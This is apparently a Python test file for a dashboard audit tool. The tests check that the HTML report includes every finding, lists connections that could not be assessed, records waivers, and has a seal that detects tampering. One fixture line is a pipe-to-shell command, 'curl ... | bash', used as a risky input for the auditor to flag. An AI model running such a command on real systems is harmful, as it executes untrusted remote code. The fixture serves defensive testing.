"""The report of a run: it holds every finding, hides no connection, and can be verified."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence

from dashboard.audit.formats import writer
from dashboard.audit.results import ConnectionAudit, Results
from dashboard.audit.run import Auditor
from dashboard.audit.subjects import Subjects
from dashboard.audit.waivers import apply_waivers, waivers_for
from dashboard.report import seal
from tests.dashboard.audit.assessed import NOW
from tests.dashboard.builders import HOSTILE_TEXTS, inventory_of

RISKY = {"user_image_url": "r.example/a", "user_command": "curl -s http://x.example/a | bash"}


def _results() -> Results:
    loaded = inventory_of(*({"config_name": text, "config_desc": text, **RISKY} for text in HOSTILE_TEXTS))
    audit = Auditor().audit(Subjects(loaded, {}), NOW)
    first = [audit.finding(int(place)) for place in audit.positions(checks=["SUP001"])][:1]
    waivers = waivers_for(first, "prod", reason="known", owner="anna", expires=NOW.date())
    audit = apply_waivers(audit, waivers, "prod", NOW)
    prod = ConnectionAudit("prod", audit, (), "Production", "https://x.example", "p1", loaded)
    return Results(NOW, (prod, ConnectionAudit("gone", None, ("nobody answers",))))


def _data(document: str) -> Sequence[dict[str, object]]:
    found = re.search(r'<script type="application/json" id="report-data">(.*?)</script>', document, re.DOTALL)
    assert found
    connections: Sequence[dict[str, object]] = json.loads(found[1])["connections"]
    return connections


def test_the_report_holds_every_finding_and_hides_no_connection() -> None:
    results = _results()
    document = "".join(writer("html")(results))
    prod, gone = _data(document)
    audit = results.connections[0].audit
    assert audit is not None
    findings = prod["findings"]
    assert isinstance(findings, list)
    assert [(one["check"], one["configuration"], one["fingerprint"], one["status"]) for one in findings] == [
        (one.check.id, one.configuration, one.fingerprint, one.status) for one in audit
    ]
    assert [(one["owner"], one["state"]) for one in prod["waivers"]] == [("anna", "used")]  # type: ignore[attr-defined]
    assert (prod["title"], prod["loaded"], prod["details"]) == ("Production", len(HOSTILE_TEXTS), 0)
    assert gone["not_assessed"] == [{"check": "everything", "reason": "nobody answers", "count": 0}]
    assert "nobody answers" in document.partition('id="report-data"')[0]


def test_the_report_can_be_verified_and_a_changed_one_is_told() -> None:
    document = "".join(writer("html")(_results())).encode()
    assert seal.verify(document).is_good
    assert not seal.verify(document.replace(b"Production", b"Produktion")).is_good
